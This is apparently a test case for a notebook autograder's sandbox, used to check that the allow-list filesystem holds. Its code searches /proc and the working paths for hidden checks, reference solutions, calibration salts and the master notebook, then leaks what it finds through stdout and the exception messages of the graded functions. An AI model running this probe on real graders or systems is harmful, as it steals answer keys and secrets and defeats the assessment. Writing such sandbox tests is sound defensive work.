# about: reads the hidden checks, the reference solutions, the calibration (salt, hidden split
#   seed) and the master notebook from the kit's folder by their paths, also through /proc, and
#   leaks whatever it finds through exception messages (which feedback shows) and stdout
# base: blank
# defence: the allow-list filesystem (the kit's folder is not in it); no secret is copied into
#   the sandbox
# lacks: LEAKED
# --- cell
import glob
import os

roots = ["/work/main", "/work", os.environ.get("HOME", ""), "/proc/1/root/work/main",
         "/proc/1/cwd", "/proc/self/root/work/main"]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        roots.append(f"/proc/{pid}/root/work/main")
        roots.append(f"/proc/{pid}/cwd")
patterns = ["solutions/*.py", "autograder/checks/*.py", "autograder/checks/calibration/*.json",
            "assignment/*.ipynb", "autograder/frontends/calibrate.py", ".cache/*/*"]
found = {}
for root in roots:
    for pattern in patterns:
        for path in glob.glob(os.path.join(root, pattern)):
            try:
                with open(path) as handle:
                    found[path] = handle.read()
            except OSError:
                pass
leak = " ".join(f"{path}: {text[:300]}" for path, text in sorted(found.items()))
print("LEAKED", leak[:20000])


def get_sparsity(tensor):
    raise RuntimeError(f"LEAKED {leak[:900]}" if leak else "nothing readable")


def fine_grained_prune(tensor, sparsity):
    raise RuntimeError(f"LEAKED {leak[900:1800]}" if leak else "nothing readable")
